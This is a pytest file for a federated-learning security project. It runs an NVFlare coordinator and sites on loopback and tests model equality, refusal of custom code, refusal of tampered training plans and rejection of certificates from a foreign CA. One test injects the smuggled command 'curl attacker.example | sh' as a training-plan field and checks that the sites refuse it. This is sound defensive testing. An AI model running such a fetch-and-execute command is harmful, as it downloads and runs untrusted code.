"""A real loopback federation: coordinator and three sites as NVFlare processes on 127.0.0.1.

One federation serves the module (see loopback.py); no test here changes it, so they run in any
order. The coordinator's own policy is NVFlare's permissive default here (as if it were
compromised), so what refuses custom code below is the sites' hardening.
"""

from __future__ import annotations

import json
import shutil
import socket
import ssl
from pathlib import Path

import pytest

pytest.importorskip("nvflare")

from fedsec import seeding
from fedsec.engines.nvflare import poc
from fedsec.engines.nvflare.job import build_job, run_job, session, submit, wait
from fedsec.engines.nvflare.provision import (
    Admin,
    FederationSpec,
    Identity,
    provision,
)
from fedsec.evaluation.arms import train_federated
from fedsec.evaluation.experiment import org_frames
from fedsec.learning.params import max_abs_diff
from fedsec.scenarios.federation import build_federation
from tests.engines.nvflare.loopback import JOB_TIMEOUT, loopback, spec_for

pytestmark = pytest.mark.deployment


@pytest.fixture(scope="module")
def federation(consortium, tmp_path_factory):
    with loopback(consortium, tmp_path_factory.mktemp("poc")) as fed:
        yield fed


@pytest.mark.parametrize(
    "protection, tolerance",
    [({}, 1e-6), ({"secure_aggregation": True}, 1e-6), ({"homomorphic_encryption": True}, 1e-5)],
    ids=["clear", "secure-aggregation", "homomorphic-encryption"],
)
def test_global_model_equals_the_in_process_engines(
    federation, consortium, tmp_path, protection, tolerance
):
    """Equal to float rounding; under HE both runs carry CKKS noise (~1e-9 per summed value)."""
    data, scenario = consortium
    privacy = scenario.privacy.model_copy(update=protection)
    scenario = scenario.model_copy(update={"privacy": privacy})
    _, meta, result = run_job(
        spec_for(scenario), federation.admin_kit, federation.admin, tmp_path, JOB_TIMEOUT
    )
    assert meta["status"] == "FINISHED:COMPLETED", meta
    assert result is not None and result.error is None and not result.dropouts
    assert [h.round for h in result.history] == [1, 2, 3]
    seeding.deterministic_torch(threads=1)
    arm = train_federated(scenario, org_frames(build_federation(scenario, data)), lambda _: None)
    reference = next(iter(arm.models.values())).params
    assert max_abs_diff(result.params, reference) <= tolerance


def test_a_job_carrying_custom_code_is_refused_by_the_sites(federation, consortium, tmp_path):
    _, scenario = consortium
    folder = build_job(spec_for(scenario), tmp_path / "job")
    marker = tmp_path / "custom-code-ran"
    custom = folder / "app" / "custom"
    custom.mkdir()
    (custom / "evil.py").write_text(f"open({str(marker)!r}, 'w').write('ran')\n")
    client = folder / "app" / "config" / "config_fed_client.json"
    config = json.loads(client.read_text())
    config["components"] = [{"id": "evil", "path": "evil.Evil", "args": {}}]
    client.write_text(json.dumps(config))
    with session(federation.admin_kit, federation.admin) as admin:
        job_id = submit(admin, folder)
        meta = wait(admin, job_id, JOB_TIMEOUT)
    details = meta.get("job_deploy_detail", [])
    assert "server: OK" in details  # the (compromised) coordinator let it through
    for site in scenario.org_names():
        assert any(d.startswith(site) and "BYOC not permitted" in d for d in details), details
    assert meta["status"] != "FINISHED:COMPLETED"
    assert not marker.exists()


def test_an_unknown_training_plan_field_is_refused_by_the_sites(federation, consortium, tmp_path):
    _, scenario = consortium
    spec = spec_for(scenario)
    tampered = spec.model_dump(mode="json")
    tampered["training"]["run_command"] = "curl attacker.example | sh"
    _, meta, result = run_job(
        spec, federation.admin_kit, federation.admin, tmp_path, JOB_TIMEOUT, job=tampered
    )
    assert meta["status"] != "FINISHED:COMPLETED"
    assert result is not None and result.params is None
    for site in scenario.org_names():
        reason = result.dropouts[site]
        assert "training plan refused: training.run_command: Extra inputs are not permitted" in (
            reason
        )
    assert "needed" in result.error


def test_a_site_certificate_from_a_foreign_ca_is_refused(federation, tmp_path):
    foreign = provision(
        FederationSpec(
            project=federation.project,
            coordinator=poc.SERVER,
            fed_learn_port=federation.ports["fed_learn"],
            admin_port=federation.ports["admin"],
            sites=[Identity(name=s, org=federation.orgs[s]) for s in federation.sites],
            admins=[Admin(name=federation.admin, org="consortium")],
        ),
        tmp_path / "foreign",
    )
    genuine_ca = federation.kit("plant") / "startup" / "rootCA.pem"
    assert genuine_ca.read_bytes() != (foreign / "plant" / "startup" / "rootCA.pem").read_bytes()
    port = federation.ports["fed_learn"]
    assert handshake(federation.kit("plant") / "startup", genuine_ca, port) == "accepted"
    assert handshake(foreign / "plant" / "startup", genuine_ca, port) == "refused"

    # The real client, given the project's public root CA as an attacker would, never joins.
    kit = foreign / "plant"
    shutil.copy(genuine_ca, kit / "startup" / "rootCA.pem")
    pid = poc.launch(federation, "plant", kit)
    try:
        with pytest.raises(poc.PocError, match="did not register"):
            poc.wait_registered(kit, 0, pid, timeout=15)
    finally:
        assert poc.kill(pid, kit)
    assert not poc.alive(pid)


def handshake(startup: Path, ca: Path, port: int) -> str:
    """Present ``startup``'s client certificate to the coordinator over TLS."""
    context = ssl.create_default_context(cafile=str(ca))
    context.check_hostname = False
    context.load_cert_chain(startup / "client.crt", startup / "client.key")
    with socket.create_connection(("127.0.0.1", port), timeout=5) as raw:
        try:
            with context.wrap_socket(raw) as tls:
                tls.settimeout(2)
                tls.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n")
                return "accepted" if tls.recv(1) else "refused"
        except (ssl.SSLError, ConnectionResetError, BrokenPipeError):
            return "refused"
        except TimeoutError:
            return "accepted"
